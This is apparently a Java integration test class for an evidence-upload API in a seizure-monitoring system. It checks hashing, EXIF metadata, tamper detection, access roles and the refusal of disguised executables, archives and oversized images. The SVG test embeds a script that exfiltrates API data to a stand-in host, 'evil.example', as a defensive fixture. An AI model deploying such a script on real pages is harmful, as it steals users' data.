package org.embargomonitor.seizures.evidence;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.embargomonitor.seizures.Fixtures.PROBLEM_JSON;
import static org.embargomonitor.seizures.Fixtures.as;
import static org.embargomonitor.seizures.Fixtures.jpegWithExif;
import static org.embargomonitor.seizures.Fixtures.newReference;
import static org.embargomonitor.seizures.Fixtures.record;
import static org.embargomonitor.seizures.Fixtures.seizureWithItems;
import static org.embargomonitor.testing.DemoUser.COMMITTEE_MEMBER;
import static org.embargomonitor.testing.DemoUser.MISSION_OFFICER;
import static org.embargomonitor.testing.DemoUser.MONUSCO_OFFICER;
import static org.embargomonitor.testing.DemoUser.PANEL_EXPERT;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.embargomonitor.testing.DemoUser;
import org.embargomonitor.testing.HostileFiles;
import org.embargomonitor.testing.Tokens;
import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

@QuarkusTest
class EvidenceResourceTest {

    private static final Path DOCUMENTS = Path.of(System.getProperty("embargo.shared.dir", "../../shared"), "data", "documents");
    private static final Path PDF = DOCUMENTS.resolve("t4t_ammunition_headstamp_annotation_guide_v0.2.pdf");
    private static final Path DOCX = DOCUMENTS.resolve("t4t_unidir_cartridge_identification_planning.docx");
    private static final Path STORE = Path.of("target/evidence-store");

    @Test
    void shouldStoreAPdfUploadedAsAFormWithItsHashAndDetectedType() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] pdf = Files.readAllBytes(PDF);

        given().auth().oauth2(Tokens.accessToken(MISSION_OFFICER))
                .multiPart("file", "headstamps.jpg", pdf, "image/jpeg")
                .multiPart("description", "Headstamp guide used for the inspection")
                .post("/api/seizures/" + seizure + "/evidence")
                .then().statusCode(201)
                .body("mediaType", equalTo("application/pdf"))
                .body("sha256", equalTo(sha256(pdf)))
                .body("sizeBytes", equalTo(pdf.length))
                .body("fileName", equalTo("headstamps.jpg"));
    }

    @Test
    void shouldStreamARawBodyAndServeTheSameBytesBackWithTheirHash() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] docx = Files.readAllBytes(DOCX);

        String location = as(MISSION_OFFICER).contentType("application/octet-stream").body(docx)
                .queryParam("fileName", "planning.docx")
                .post("/api/seizures/" + seizure + "/evidence")
                .then().statusCode(201).body("mediaType", startsWith("application/")).extract().header("Location");

        byte[] served = given().auth().oauth2(Tokens.accessToken(PANEL_EXPERT)).get(location)
                .then().statusCode(200)
                .header("ETag", "\"" + sha256(docx) + "\"")
                .header("Repr-Digest", startsWith("sha-256=:"))
                .extract().asByteArray();
        assertThat(served).isEqualTo(docx);
    }

    @Test
    void shouldStoreTheSameBytesOnce() throws Exception {
        String first = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        String second = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] photo = jpegWithExif(null);
        upload(first, photo).then().statusCode(201);
        long files = storedFiles();

        upload(second, photo).then().statusCode(201).body("sha256", equalTo(sha256(photo)));

        assertThat(storedFiles()).isEqualTo(files);
    }

    @Test
    void shouldReadWhenAndWhereAPhotoWasTakenFromItsExif() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));

        upload(seizure, jpegWithExif(new double[] { 6.5423, 21.9862 })).then().statusCode(201)
                .body("mediaType", equalTo("image/jpeg"))
                .body("takenAt", startsWith("2026-03-14T09:30"))
                .body("latitude", equalTo(6.5423f))
                .body("longitude", equalTo(21.9862f))
                .body("camera", equalTo("Canon EOS 2000D"));
    }

    @Test
    void shouldRefuseAnExecutableDisguisedAsAPhoto() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] elf = new byte[4096];
        System.arraycopy(new byte[] { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0 }, 0, elf, 0, 8);

        given().auth().oauth2(Tokens.accessToken(MISSION_OFFICER)).multiPart("file", "markings.jpg", elf, "image/jpeg")
                .post("/api/seizures/" + seizure + "/evidence")
                .then().statusCode(415).contentType(PROBLEM_JSON).body("errors[0].field", equalTo("file"));
        assertThat(evidenceOf(seizure)).isEmpty();
    }

    @Test
    void shouldRefuseAWindowsExecutableCarryingAJpegAndServeAJpegCarryingAnExecutableOnlyAsAnImage() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] photo = jpegWithExif(null);

        upload(seizure, HostileFiles.executableThenJpeg(photo)).then().statusCode(415).contentType(PROBLEM_JSON);
        assertThat(evidenceOf(seizure)).isEmpty();

        String stored = upload(seizure, HostileFiles.jpegThenExecutable(photo)).then().statusCode(201).body("mediaType", equalTo("image/jpeg"))
                .extract().header("Location");
        given().auth().oauth2(Tokens.accessToken(PANEL_EXPERT)).get(stored).then().statusCode(200)
                .contentType("image/jpeg").header("X-Content-Type-Options", equalTo("nosniff"))
                .header("Content-Security-Policy", containsString("sandbox"));
    }

    @Test
    void shouldKeepAnImageClaimingTenBillionPixelsWithoutDecodingIt() {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));

        upload(seizure, HostileFiles.pngClaiming(100_000, 100_000)).then().statusCode(201).body("mediaType", equalTo("image/png"))
                .body("takenAt", nullValue());
    }

    @Test
    void shouldRefuseAnArchive() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (var out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("payload.txt"));
            out.write("hidden".getBytes());
        }

        upload(seizure, zip.toByteArray()).then().statusCode(415).contentType(PROBLEM_JSON);
        assertThat(evidenceOf(seizure)).isEmpty();
    }

    @Test
    void shouldRefuseAnOversizedFileWith413() {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] large = new byte[1_500_000];
        large[0] = '%';

        upload(seizure, large).then().statusCode(413).contentType(PROBLEM_JSON).body("status", equalTo(413));
        assertThat(evidenceOf(seizure)).isEmpty();
    }

    @Test
    void shouldReturnTheFirstUploadToARetryWithTheSameKey() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] photo = jpegWithExif(null);
        String key = UUID.randomUUID().toString();

        String first = raw(MISSION_OFFICER, photo).header("Idempotency-Key", key).post("/api/seizures/" + seizure + "/evidence")
                .then().statusCode(201).extract().path("id");
        String retry = raw(MISSION_OFFICER, photo).header("Idempotency-Key", key).post("/api/seizures/" + seizure + "/evidence")
                .then().statusCode(201).header("Idempotent-Replayed", "true").extract().path("id");

        assertThat(retry).isEqualTo(first);
        assertThat(evidenceOf(seizure)).hasSize(1);
    }

    @Test
    void shouldWithholdAndReportAFileWhoseBytesChangedOnDisk() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] text = ("Seizure report " + UUID.randomUUID()).getBytes();
        String location = upload(seizure, text).then().statusCode(201).body("mediaType", equalTo("text/plain"))
                .extract().header("Location");
        String hash = sha256(text);
        Path stored = STORE.resolve(hash.substring(0, 2)).resolve(hash.substring(2, 4)).resolve(hash);

        Files.writeString(stored, "tampered");

        given().auth().oauth2(Tokens.accessToken(MISSION_OFFICER)).get(location)
                .then().statusCode(500).contentType(PROBLEM_JSON).body("detail", containsString("no longer match"));
    }

    @Test
    void shouldRepairDamagedBytesWithAnIdenticalUploadAndReportTheDamageInTheCustodyVerification() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] text = ("Inspection notes " + UUID.randomUUID()).getBytes();
        String location = upload(seizure, text).then().statusCode(201).extract().header("Location");
        String hash = sha256(text);
        Files.writeString(STORE.resolve(hash.substring(0, 2)).resolve(hash.substring(2, 4)).resolve(hash), "tampered");

        as(PANEL_EXPERT).get("/api/seizures/" + seizure + "/custody/verification").then()
                .body("intact", equalTo(false)).body("problems", hasItem(containsString("no longer match their SHA-256")));

        upload(seizure, text).then().statusCode(201);

        byte[] served = given().auth().oauth2(Tokens.accessToken(PANEL_EXPERT)).get(location).then().statusCode(200)
                .extract().asByteArray();
        assertThat(served).isEqualTo(text);
        as(PANEL_EXPERT).get("/api/seizures/" + seizure + "/custody/verification").then().body("intact", equalTo(true));
    }

    @Test
    void shouldRefuseAnSvgForItCanCarryScript() {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] svg = """
                <?xml version="1.0"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
                  <script>fetch('/api/seizures').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
                  <rect width="10" height="10"/>
                </svg>""".getBytes();

        upload(seizure, svg).then().statusCode(415).contentType(PROBLEM_JSON)
                .body("errors.field", hasItem("file")).body("detail", containsString("image/svg+xml"));
        assertThat(evidenceOf(seizure)).isEmpty();
    }

    @Test
    void shouldRefuseAFormWhosePartsDoNotMatchItsBoundaryOrWhoseFileNameIsTooLongAndStoreNothing() {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        byte[] mismatched = ("--BBB\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n"
                + "Content-Type: text/plain\r\n\r\nhello\r\n--BBB--\r\n").getBytes();

        given().auth().oauth2(Tokens.accessToken(MISSION_OFFICER)).contentType("multipart/form-data; boundary=AAA").body(mismatched)
                .post("/api/seizures/" + seizure + "/evidence").then().statusCode(400).contentType(PROBLEM_JSON);
        given().auth().oauth2(Tokens.accessToken(MISSION_OFFICER)).multiPart("file", "a".repeat(301) + ".txt", "hello".getBytes(), "text/plain")
                .post("/api/seizures/" + seizure + "/evidence").then().statusCode(400).contentType(PROBLEM_JSON)
                .body("errors.field", hasItem("file"));
        assertThat(evidenceOf(seizure)).isEmpty();
    }

    @Test
    void shouldServePhotosInlineAndEveryOtherFileAsADownloadNoBrowserRunsOrSniffs() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        String photo = upload(seizure, jpegWithExif(null)).then().statusCode(201).extract().header("Location");
        String pdf = as(MISSION_OFFICER).contentType("application/octet-stream").body(Files.readAllBytes(PDF))
                .queryParam("fileName", "rapport d'inspection.pdf").post("/api/seizures/" + seizure + "/evidence")
                .then().statusCode(201).extract().header("Location");

        given().auth().oauth2(Tokens.accessToken(PANEL_EXPERT)).get(photo).then().statusCode(200)
                .header("Content-Disposition", startsWith("inline"))
                .header("X-Content-Type-Options", equalTo("nosniff"))
                .header("Content-Security-Policy", containsString("sandbox"));
        given().auth().oauth2(Tokens.accessToken(PANEL_EXPERT)).get(pdf).then().statusCode(200)
                .header("Content-Disposition", equalTo("attachment; filename*=UTF-8''rapport%20d%27inspection.pdf"))
                .header("X-Content-Type-Options", equalTo("nosniff"))
                .header("Content-Security-Policy", equalTo("sandbox; default-src 'none'"));
    }

    @Test
    void shouldLetOnlyTheRecordsReadersAndHoldersAtTheEvidence() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        upload(seizure, jpegWithExif(null)).then().statusCode(201);

        upload(seizure, jpegWithExif(null), PANEL_EXPERT).then().statusCode(403);
        upload(seizure, jpegWithExif(null), COMMITTEE_MEMBER).then().statusCode(403);
        upload(seizure, jpegWithExif(null), MONUSCO_OFFICER).then().statusCode(404);
        as(PANEL_EXPERT).get("/api/seizures/" + seizure + "/evidence").then().statusCode(200).body("size()", equalTo(1));
        as(COMMITTEE_MEMBER).get("/api/seizures/" + seizure + "/evidence").then().statusCode(403);
        as(MONUSCO_OFFICER).get("/api/seizures/" + seizure + "/evidence").then().statusCode(404);
    }

    @Test
    void shouldRecordTheUploadInTheChainOfCustody() throws Exception {
        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
        upload(seizure, jpegWithExif(null)).then().statusCode(201);

        as(PANEL_EXPERT).get("/api/seizures/" + seizure + "/custody").then().body("action", hasItem("EVIDENCE_ADDED"));
        as(PANEL_EXPERT).get("/api/seizures/" + seizure + "/custody/verification").then().body("intact", equalTo(true));
    }

    private static Response upload(String seizure, byte[] bytes) {
        return upload(seizure, bytes, MISSION_OFFICER);
    }

    private static Response upload(String seizure, byte[] bytes, DemoUser user) {
        return raw(user, bytes).post("/api/seizures/" + seizure + "/evidence");
    }

    private static RequestSpecification raw(DemoUser user, byte[] bytes) {
        return given().auth().oauth2(Tokens.accessToken(user)).contentType("application/octet-stream").body(bytes)
                .log().ifValidationFails();
    }

    private static List<?> evidenceOf(String seizure) {
        return as(MISSION_OFFICER).get("/api/seizures/" + seizure + "/evidence").then().statusCode(200).extract().as(List.class);
    }

    private static long storedFiles() throws IOException {
        try (Stream<Path> files = Files.walk(STORE)) {
            return files.filter(Files::isRegularFile).filter(f -> !f.toString().contains("incoming")).count();
        }
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }
}
